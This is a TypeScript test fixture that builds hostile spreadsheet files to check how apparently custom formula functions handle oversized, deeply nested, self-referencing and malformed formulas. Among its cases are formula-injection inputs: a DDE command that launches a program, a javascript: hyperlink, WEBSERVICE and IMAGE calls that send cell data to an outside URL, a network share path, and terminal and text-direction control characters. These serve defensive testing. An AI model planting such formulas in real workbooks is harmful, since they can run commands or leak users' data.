import { bookWith, escaped, formulaAt, type HostileFile } from "./file";

/** Of ours, with one argument made hostile. */
const ours = (argument: string) => `_xldudf_SPARE_E1RM(${argument},5)`;

/** Formulas that are long, deep, endless or nonsense; `mostSteps` says how much of each there is. */
export function formulaFiles(): HostileFile[] {
  const file = (name: string, formula: string, more: Partial<HostileFile> = {}): HostileFile => ({
    name,
    bytes: () => bookWith({ data: formulaAt(formula) }),
    ...more,
  });
  const refused = (name: string, formula: string, why: RegExp) =>
    file(name, formula, { refused: why });
  const opened = (name: string, formula: string, value?: number | string) =>
    file(name, formula, {
      opened: true,
      ...(value !== undefined && { cells: { "Log!B1": value } }),
    });
  const tooLong = /Log!B1.* characters/;
  const tooDeep = /Log!B1.* deep/;
  const tooMany = /Log!B1.* cells/;

  return [
    refused("100,000 minus signs", `${"-".repeat(1e5)}1`, tooLong),
    refused("a chain of 20,000 plus signs", `${"1+".repeat(2e4)}1`, tooLong),
    refused("A:A:A: over and over", `SUM(${"A:".repeat(20_000)}A)`, tooLong),
    refused("20,000 brackets", `${"(".repeat(2e4)}1${")".repeat(2e4)}`, tooLong),
    refused("a text of 1 MB", ours(`"${"x".repeat(1e6)}"`), tooLong),
    refused("500 brackets", ours(`${"(".repeat(500)}100${")".repeat(500)}`), tooDeep),
    refused("500 brackets that nobody closes", ours("(".repeat(500)), tooDeep),
    refused("500 braces", `SUM(${"{".repeat(500)}1${"}".repeat(500)})`, tooDeep),
    refused("500 calls in one another", `${"ABS(".repeat(500)}1${")".repeat(500)}`, tooDeep),
    refused("4,000 minus signs", `${"-".repeat(4000)}1`, /Log!B1.* in a row/),
    refused("A:A:A: 2,000 times", `SUM(${"A:".repeat(2000)}A)`, /Log!B1.* in a row/),
    refused("cells to the end of the sheet", ours("B1:XFD1048576"), tooMany),
    refused("cells to the end, in a plain formula", "SUM(C1:XFD1048576)", tooMany),
    refused(
      "cells to the end, many times over",
      `SUM(${Array.from({ length: 40 }, () => "C1:D1048576").join(",")})`,
      tooMany,
    ),
    refused("cells from everywhere to everywhere", ours("C1:XFD1:C1048576:XFD9"), tooMany),
    opened("whole columns", ours("SUM(C:C)+100"), 100 * (1 + 5 / 30)),
    opened("a whole column by its ends", ours("SUM(C1:C1048576)+100"), 100 * (1 + 5 / 30)),
    refused("all columns", ours("SUM(C:XFD)+100"), tooMany),
    refused("all rows", ours("SUM(2:1048576)+100"), tooMany),
    opened("whole columns of ours", "SUM(_xldudf_SPARE_E1RM(C:C,D:D))"),
    opened("20 minus signs", ours(`${"-".repeat(20)}100`), 100 * (1 + 5 / 30)),
    opened("60 brackets", ours(`${"(".repeat(60)}100${")".repeat(60)}`), 100 * (1 + 5 / 30)),
    opened(
      "60 calls in one another",
      ours(`${"ABS(".repeat(60)}100${")".repeat(60)}`),
      100 * (1 + 5 / 30),
    ),
    opened("a sum of 2,000 parts", ours(`${"0+".repeat(2000)}100`), 100 * (1 + 5 / 30)),
    opened("a text joined of 1,000 parts", `${'"a"&'.repeat(1000)}"a"`),
    opened(
      "250 arguments",
      ours(`SUM(${Array.from({ length: 250 }, () => "0.4").join(",")})`),
      100 * (1 + 5 / 30),
    ),
    opened(
      "a list of 2,000 numbers",
      ours(`SUM({${Array.from({ length: 2000 }, () => "0.05").join(",")}})`),
    ),
    ...[
      ["", "nothing"],
      ["=", "a sign for nothing"],
      ["SUM(", "a call that does not end"],
      [")))", "brackets that nobody opened"],
      ["1+", "half a sum"],
      [`"`, "half a text"],
      ["'", "half a sheet's name"],
      ["[", "half a table"],
      ["[[[[[[[[", "a table in a table"],
      ["{1,2;3}", "a list with a gap"],
      ["#REF!+#REF!", "errors"],
      ["#SPARE!", "an error that nobody knows"],
      ["A1:B2:", "half a range"],
      ["Log!", "a sheet without cells"],
      ["'No such sheet'!A1", "a sheet that there is not"],
      ["[1]Log!A1", "another workbook"],
      ["[9999999]Log!A1", "another workbook of many"],
      ["'\\\\host\\share\\[x.xlsx]Log'!A1", "a workbook on the network"],
      ["Log:Check!A1", "sheets that contain themselves"],
      ["A0+A1048577+XFE1+AAAA1", "cells that there are not"],
      ["R1C1", "cells by number"],
      ["1/0", "a division by nothing"],
      ["10^400", "more than there is"],
      ["SPARE.NOSUCH(1)", "a function that we have not"],
      ["_xldudf_SPARE_E1RM()", "ours with nothing"],
      [`_xldudf_SPARE_E1RM(${"1,".repeat(200)}1)`, "ours with 201 arguments"],
      ["_xldudf_SPARE___proto__(1)", "ours called as objects' own are"],
      ["_xldudf_SPARE_CONSTRUCTOR(1)", "ours called as a constructor"],
      ["constructor(1)+toString(1)+__proto__(1)", "calls of objects' own"],
      ['IMAGE("https://example.org/x?"&A1)', "a picture from elsewhere"],
      ['WEBSERVICE("https://example.org/x?"&A1)', "a service elsewhere"],
      ['HYPERLINK("javascript:alert(1)","log")', "a link that is a program"],
      ["CMD|'/c calc'!A0", "a program of the computer"],
      ['RTD("x",,"y")', "a stock price"],
      ["\u009b2J", "a sequence that drives a terminal"],
      ["\u202eSUM(1)", "a mark that turns the direction of text"],
      ["SUM(Log!B1:B9)", "itself"],
      ["_xldudf_SPARE_E1RM(B1,5)", "ours that reads itself"],
      ["OFFSET(B1,0,0)", "itself, by offset"],
      ['INDIRECT("B1")', "itself, by a text"],
      ['INDIRECT("Log!"&"B"&1)+_xldudf_SPARE_E1RM(100,5)', "itself, by a text, with ours"],
      ["LAMBDA(x,x(x))(LAMBDA(x,x(x)))", "a function of itself"],
      ["LET(f,LAMBDA(f,n,IF(n=0,0,f(f,n-1))),f(f,100000))", "a recursion of 100,000"],
      ["REDUCE(0,SEQUENCE(100),LAMBDA(a,b,a+b))", "a fold"],
      ["LET(x,1,x,2,x)", "a name twice"],
      ["LAMBDA(x,x)", "a function that nobody calls"],
    ].map(([formula, what]) => opened(what!, formula!)),
    ...[
      ["SEQUENCE(1048576,16384)", "17 thousand million numbers"],
      ["SUM(SEQUENCE(100000,100000))", "a sum of ten thousand million numbers"],
      ["RANDARRAY(1048576,1000)", "a thousand million random numbers"],
      ["MAKEARRAY(100000,100000,LAMBDA(r,c,r))", "ten thousand million results"],
      ["EXPAND(1,1048576,16384,0)", "a value expanded to a whole sheet"],
      ['LEN(REPT("x",2000000000))', "a text of 2 GB"],
      ['LEN(REPT(REPT("x",32767),32767))', "a text of 1 GB"],
      ["SUM(OFFSET(C1,0,0,1048576,16000))", "an offset over a whole sheet"],
      ['SUM(INDIRECT("C1:XFD1048576"))', "a whole sheet by a text"],
      ["FACT(170)*COMBIN(1000000000,500000000)", "large numbers of ways"],
      ["SUM(_xldudf_SPARE_E1RM(SEQUENCE(1048576,16384),5))", "ours over a whole sheet of numbers"],
      ["MMULT(SEQUENCE(3000,3000),SEQUENCE(3000,3000))", "a product of large matrices"],
      ['TEXTJOIN("x",FALSE,SEQUENCE(1000000,100))', "a text joined of a hundred million numbers"],
      [
        "_xldudf_SPARE_LOADCHART(100,SEQUENCE(100000),SEQUENCE(1,16384))",
        "a chart of a whole sheet",
      ],
      ["_xldudf_SPARE_E1RM(SEQUENCE(100000),SEQUENCE(1,10000))", "a grid of a thousand million"],
    ].map(([formula, what]) => file(what!, formula!)),
    { name: "a circle of two, with ours", bytes: circle, opened: true },
    { name: "a chain of 1,000 cells", bytes: chain, opened: true, cells: { "Log!B1000": 1000 } },
    {
      name: "300 formulas that each read all those above",
      bytes: () =>
        bookWith({
          data: Array.from({ length: 300 }, (_, n) =>
            formulaAt(n === 0 ? "_xldudf_SPARE_E1RM(100,5)" : `SUM(B$1:B${n})`, `B${n + 1}`),
          ).join(""),
        }),
      opened: true,
    },
  ];
}

const circle = () =>
  bookWith({
    data:
      `<row r="1"><c r="A1"><f>${escaped("_xldudf_SPARE_E1RM(B1,5)")}</f><v>7</v></c>` +
      `<c r="B1"><f>A1+1</f><v>8</v></c></row>`,
  });

/** Each adds one to the cell above, and the first is one of ours less what it comes to. */
const chain = () =>
  bookWith({
    data: Array.from({ length: 1000 }, (_, n) =>
      formulaAt(n === 0 ? "_xldudf_SPARE_PERCENT1RM(1)" : `B${n}+1`, `B${n + 1}`),
    ).join(""),
  });
